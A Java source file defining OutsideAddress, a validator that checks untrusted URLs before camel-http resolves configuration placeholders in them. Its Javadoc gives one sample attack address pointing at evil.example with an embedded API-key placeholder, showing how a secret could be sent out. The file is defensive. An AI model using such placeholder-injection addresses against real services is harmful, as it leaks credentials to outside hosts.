package io.reelay.net;

import java.net.URI;
import java.net.URISyntaxException;
import java.util.Locale;
import java.util.Set;

/**
 * An address that others chose, checked before camel-http gets it, which resolves {@code
 * {{placeholders}}} in {@code CamelHttpUri} (4.18.0, HttpHelper.createURL): an address such as
 * {@code http://evil.example/{{reelay.gateways.main.api-key}}} would send the key along.
 */
public final class OutsideAddress {
  private static final Set<String> SCHEMES = Set.of("http", "https");

  /**
   * Returns the address if it is an absolute http or https URI by RFC 3986, which has no braces.
   *
   * @throws IllegalArgumentException if it is not; the message does not repeat it, since it may be
   *     signed
   */
  public String checked(String address) {
    try {
      URI uri = new URI(address == null ? "" : address.strip());
      if (uri.getScheme() == null
          || !SCHEMES.contains(uri.getScheme().toLowerCase(Locale.ROOT))
          || uri.getHost() == null
          || uri.getRawUserInfo() != null) {
        throw new IllegalArgumentException("not an absolute http(s) address without user name");
      }
      return uri.toString();
    } catch (URISyntaxException e) {
      throw new IllegalArgumentException("not an address by RFC 3986");
    }
  }
}
